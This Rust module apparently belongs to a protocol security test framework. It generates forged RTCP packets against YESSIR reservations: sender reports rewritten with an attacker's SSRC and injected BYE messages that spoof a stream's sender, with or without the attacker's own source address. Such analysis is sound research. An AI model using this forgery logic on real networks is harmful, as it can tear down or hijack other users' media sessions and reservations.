//! Forged messages of YESSIR.

use std::net::IpAddr;

use crate::attack::{Attack, Packet, Power};

/// IP protocol number of UDP, and its header.
const UDP: u8 = 17;
const HEADER: usize = 8;
/// Place of the SSRC in a UDP packet with a report.
const SSRC: std::ops::Range<usize> = HEADER + 4..HEADER + 8;
/// Packet types of RTCP (RFC 3550 section 12.1).
const SENDER_REPORT: u8 = 200;
const BYE: u8 = 203;
/// SSRC of the attacker.
const OTHER: [u8; 4] = [0xba, 0xdc, 0x0f, 0xfe];

/// Returns forged messages by an attacker who has seen the messages of a reservation.
pub(super) fn forgeries(seen: &[Packet], attacker: IpAddr) -> Vec<Attack> {
    let reports: Vec<&Packet> = seen.iter().filter(|packet| is_report(packet)).collect();
    let all = |forge: &dyn Fn(&Packet) -> Packet, source: Option<IpAddr>| -> Vec<Packet> {
        let forged = reports.iter().map(|packet| {
            let mut packet = forge(packet);
            packet.source = source.unwrap_or(packet.source);
            packet.seal();
            packet
        });
        forged.collect()
    };
    let bye_of_other = |packet: &Packet| bye(&with_other_ssrc(packet));
    let (any, own) = (Power::AnyAddress, Power::OwnAddress);
    let attacks = vec![
        Attack::new("report with another SSRC", any, all(&with_other_ssrc, None)),
        Attack::new("report with another SSRC", own, all(&with_other_ssrc, Some(attacker))),
        Attack::new("BYE with the stream's SSRC", any, all(&bye, None)),
        Attack::new("BYE with the stream's SSRC", own, all(&bye, Some(attacker))),
        Attack::new("BYE with another SSRC", any, all(&bye_of_other, None)),
    ];
    attacks.into_iter().filter(|attack| !attack.packets.is_empty()).collect()
}

/// Returns whether a packet is a report of a sender.
fn is_report(packet: &Packet) -> bool {
    packet.protocol == UDP
        && packet.payload.len() >= SSRC.end
        && packet.payload[HEADER] >> 6 == 2
        && packet.payload[HEADER + 1] == SENDER_REPORT
}

/// Returns a report with another SSRC in all its parts.
fn with_other_ssrc(packet: &Packet) -> Packet {
    let mut packet = packet.clone();
    let ssrc = packet.payload[SSRC].to_vec();
    for word in packet.payload[HEADER..].chunks_exact_mut(4).filter(|word| *word == ssrc) {
        word.copy_from_slice(&OTHER);
    }
    packet
}

/// Returns a report with a BYE of its sender at the end (RFC 3550 section 6.6).
fn bye(packet: &Packet) -> Packet {
    let mut payload = packet.payload.clone();
    payload.extend_from_slice(&[0x81, BYE, 0, 1]); // one source; length in words, less one
    payload.extend_from_slice(&packet.payload[SSRC]);
    let length = payload.len() as u16;
    payload[4..6].copy_from_slice(&length.to_be_bytes());
    Packet { payload, ..packet.clone() }
}
